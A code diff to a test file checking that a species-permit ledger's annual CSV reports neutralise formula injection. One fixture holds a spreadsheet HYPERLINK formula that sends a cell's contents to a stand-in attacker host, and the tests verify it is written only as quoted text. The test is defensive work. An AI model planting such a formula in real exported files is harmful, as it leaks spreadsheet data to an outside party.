@@ -5,7 +5,7 @@
  * neutralised (OWASP, CSV injection): prefixed with a single quote and quoted.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { annualReport, csvCell, toCsv, type Ledger } from '../src/index.js'
+import { annualReport, annualReportCsv, csvCell, toCsv, type Ledger } from '../src/index.js'
 import { chPermit, openLedger, tempDir } from './kit.js'
 
 const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -72,26 +72,27 @@ describe('CSV cells are never formulas', () => {
       p.lines[0]!.scientificName = EVIL
       p.lines[0]!.term = 'LIV'
       await ch.issue(p)
+      await ch.endorse('CH', '26CHX00001', { lines: [{ line: 'A', quantity: 5, unit: 'PCS' }], port: 'CHZRH' })
       await ch.consume('CH', '26CHX00001', { lines: [{ line: 'A', quantity: 5, unit: 'PCS' }], port: 'THBKK' })
       await th.acceptEvents(await ch.eventsFrom('CH', 1)) // TH's replica of CH's log
     })
     afterAll(async () => { await ch.close(); await th.close(); for (const d of dirs) d.cleanup() })
 
     it('writes the replicated species name as text in the importer\'s report, never as a formula', async () => {
-      const csv = await annualReport(th, 2026)
+      const csv = annualReportCsv(await annualReport(th, 2026), 'imports')
       const lines = csv.trim().split('\n')
       expect(lines).toHaveLength(2)
       const head = csvFields(lines[0]!)
       const row = csvFields(lines[1]!)
       expect(row).toHaveLength(head.length)
-      expect(row[head.indexOf('Taxon')]).toBe(`'${EVIL}`)
-      expect(row[head.indexOf('Reporter.type')]).toBe('I')
+      expect(row[head.indexOf('species_name')]).toBe(`'${EVIL}`)
+      expect(row[head.indexOf('export_permit')]).toBe('26CHX00001')
       expect(row.filter(live)).toEqual([])
       expect(csv).not.toContain(`,${EVIL}`)
     })
 
     it('and in the exporter\'s own report', async () => {
-      const row = csvFields((await annualReport(ch, 2026)).trim().split('\n')[1]!)
+      const row = csvFields(annualReportCsv(await annualReport(ch, 2026), 'exports').trim().split('\n')[1]!)
       expect(row.filter(live)).toEqual([])
       expect(row).toContain(`'${EVIL}`)
     })
